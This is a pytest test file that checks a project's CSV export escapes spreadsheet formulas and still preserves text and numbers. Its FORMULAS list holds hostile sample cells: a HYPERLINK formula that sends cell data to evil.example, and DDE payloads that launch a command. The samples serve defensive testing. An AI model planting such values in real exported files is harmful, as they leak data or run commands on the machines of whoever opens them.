"""No file we make has a spreadsheet do anything."""

from __future__ import annotations

import ast
import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.intake.faults import Report
from shared.intake.tables import rows_of, written
from shared.spreadsheet import as_written, safe, safe_to_read_back, table
from tests.paths import ROOT

FORMULAS = (
    "=1+1", '=HYPERLINK("http://evil.example?"&A1,"Amara")', "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(A1:A9)", "\t=1",
    "\r=1", "=cmd|'/C calc'!A0", "'=1", "＝1+1", "+44 7700 900123", "-",
)  # fmt: skip
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_it_works() -> None:
    made = table(("who", "left", "why"), [("Amara", "-2.5", "=1+1"), ("Ben", -3, None)])
    assert made.startswith("\ufeff".encode())
    assert cells(made) == [["who", "left", "why"], ["Amara", "-2.5", "'=1+1"], ["Ben", "-3", ""]]


@pytest.mark.parametrize("evil", FORMULAS)
def test_a_formula_is_text(evil: str) -> None:
    assert not safe(evil).startswith(RUN)
    assert as_written(safe(evil)) == evil


@pytest.mark.parametrize("number", ["-1", "+1", "-0.5", "-1:30", "7", "-1,5"])
def test_a_number_stays_a_number(number: str) -> None:
    assert safe(number) == number


@given(st.text())
def test_whatever_the_text_nothing_of_it_is_lost(text: str) -> None:
    assert as_written(safe(text)) == text
    assert as_written(safe_to_read_back(text)) == text


@given(st.text() | st.text(alphabet="=+-@'\t1A"))
def test_whatever_the_text_a_cell_is_harmless(text: str) -> None:
    assert not safe(text).startswith(RUN) or re.fullmatch(r"[+-][\d.,:]+", safe(text))
    left = safe_to_read_back(text)
    assert not left.startswith(RUN) or re.fullmatch(r"[+-][\d.,:]+|-[A-Z?-]*", left)


def test_patterns_are_written_as_people_write_them() -> None:
    assert safe_to_read_back("--SSSA?S--") == "--SSSA?S--"


@pytest.mark.parametrize("evil", ["=1+1", "'=1", "@SUM(A1)", "-2+3+cmd|' /C calc'!D2"])
def test_what_is_exported_to_be_read_again_is_the_same_when_it_was(evil: str) -> None:
    data = written(("code", "name"), [{"code": "AO", "name": evil}])
    assert not cells(data)[1][1].startswith(RUN)
    (row,) = rows_of(data, ("code", "name"), Report("people.csv"))
    assert row.cells["name"] == evil


def test_every_table_is_written_in_one_of_two_places() -> None:
    """Who writes rows in another file has to make their cells safe: this list says where that was looked at."""
    writers = set()
    for folder in ("functions", "shared", "infra"):
        for file in (ROOT / folder).rglob("*.py"):
            tree = ast.parse(file.read_text(encoding="utf-8"))
            calls = (node for node in ast.walk(tree) if isinstance(node, ast.Attribute))
            if any(call.attr in ("writer", "DictWriter") and ast.unparse(call.value) == "csv" for call in calls):
                writers.add(file.relative_to(ROOT).as_posix())
    assert writers == {"shared/spreadsheet.py", "shared/intake/tables.py", "infra/draft_views.py"}
